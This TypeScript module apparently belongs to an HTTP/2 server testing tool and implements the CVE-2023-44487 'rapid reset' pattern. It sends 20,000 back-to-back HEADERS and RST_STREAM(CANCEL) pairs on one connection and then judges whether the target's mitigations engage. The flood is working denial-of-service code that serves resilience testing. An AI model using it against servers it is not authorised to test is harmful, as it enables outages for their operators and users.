/**
 * CVE-2023-44487: a request and its cancellation (RST_STREAM CANCEL, what a browser sends when the user
 * navigates away), back to back, again and again — streams that cost the target work and never count as open.
 */
import { ErrorCode, rstStreamFrame } from '../../h2/frames.ts';
import { Engagement } from '../engagement.ts';
import { headersFrame, requestBlock } from '../frames.ts';
import { answer, floodRefusal, notDelivered } from './answers.ts';
import { definePattern } from './types.ts';

export default definePattern({
  id: 'rapid-reset',
  title: 'Rapid reset',
  cve: 'CVE-2023-44487',
  year: 2023,
  summary: 'HEADERS immediately followed by RST_STREAM(CANCEL), stream after stream, on one connection',
  expected: 'GOAWAY ENHANCE_YOUR_CALM once a reset budget is spent (§10.5; the 2023 mitigations), cancelled streams costing nothing further',
  rfc: 'RFC 9113 §5.1, §10.5',
  defaults: { streams: 20_000 },
  scaled: ['streams'],
  async run(ctx, p) {
    const e = new Engagement(ctx, 'HEADERS + RST_STREAM pairs', p.streams);
    const peer = await e.open({ handshake: true });
    if (peer !== null) {
      const block = requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small });
      e.sent(
        await peer.writeUnits(
          p.streams,
          (i) => [headersFrame(2 * i + 1, block, { endStream: true, endHeaders: true }), rstStreamFrame(2 * i + 1, ErrorCode.CANCEL)],
          ctx.budget,
        ),
      );
    }
    return e.finish();
  },
  judge(o) {
    return (
      notDelivered(o) ??
      floodRefusal(o) ??
      answer(
        'tolerated',
        o,
        'absorbed every reset without GOAWAY: the RFC permits it (ENHANCE_YOUR_CALM is a MAY), so the CPU, memory and goodput columns decide',
      )
    );
  },
});
